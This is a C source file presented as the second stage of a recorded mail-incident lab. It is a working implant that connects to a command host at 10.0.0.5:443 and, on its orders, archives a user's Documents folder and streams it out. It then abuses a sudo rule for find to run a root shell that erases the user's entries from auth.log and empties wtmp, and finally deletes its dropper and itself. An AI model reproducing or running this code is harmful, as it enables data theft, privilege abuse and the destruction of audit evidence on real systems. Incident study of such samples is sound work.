// SPDX-License-Identifier: MIT
// The second stage of the recorded mail incident: connects to the laboratory's 10.0.0.5:443 and does, one after
// the other, the three fixed things that the other side names: collect, clean, leave. It takes no other orders.
//
// stage2 ATTACHMENT: the file that dropped it, to be removed at the end.
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define ARCHIVE "/tmp/.x/docs.tar"
#define OWN_PATH "/tmp/.x/stage2"

static int connect_home(void)
{
	struct sockaddr_in home = { .sin_family = AF_INET, .sin_port = htons(443) };
	int peer = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	inet_pton(AF_INET, "10.0.0.5", &home.sin_addr);
	if (peer < 0 || connect(peer, (struct sockaddr *)&home, sizeof(home)) < 0)
		return -1;
	return peer;
}

static pid_t run(const char *const *words)
{
	pid_t child = fork();

	if (child == 0) {
		execv(words[0], (char *const *)words);
		_exit(127);
	}
	if (child > 0)
		waitpid(child, NULL, 0);
	return child;
}

static void collect(int peer)
{
	static const char *const words[] = { "/usr/bin/tar", "cf", ARCHIVE, "-C", "/home/alice", "Documents", NULL };
	char bytes[4096];
	ssize_t count;
	pid_t child = run(words);
	int archive = open(ARCHIVE, O_RDONLY | O_CLOEXEC);

	if (archive < 0)
		return;
	while ((count = read(archive, bytes, sizeof(bytes))) > 0)
		if (write(peer, bytes, (size_t)count) != count)
			break;
	close(archive);
	dprintf(peer, "\ncollected pid=%ld\n", (long)child);
}

// The administrator lets alice run find on logs as root; find runs whatever it is given.
static void clean(int peer)
{
	static const char *const words[] = { "/usr/bin/sudo", "-n", "/usr/bin/find", "/var/log/auth.log", "-exec", "/bin/sh",
		"-c", "sed -i '/alice/d' /var/log/auth.log; : >/var/log/wtmp", ";", NULL };

	dprintf(peer, "cleaned pid=%ld\n", (long)run(words));
}

static void leave(int peer, const char *attachment)
{
	unlink(attachment);
	unlink(ARCHIVE);
	unlink(OWN_PATH);
	rmdir("/tmp/.x");
	dprintf(peer, "left\n");
}

int main(int argc, char **argv)
{
	int peer = argc > 1 ? connect_home() : -1;
	char order;

	if (peer < 0)
		return 1;
	dprintf(peer, "hello pid=%ld ppid=%ld uid=%ld\n", (long)getpid(), (long)getppid(), (long)getuid());
	while (read(peer, &order, 1) == 1) {
		if (order == 'c')
			collect(peer);
		else if (order == 'l')
			clean(peer);
		else if (order == 'x') {
			leave(peer, argv[1]);
			return 0;
		}
	}
	return 0;
}
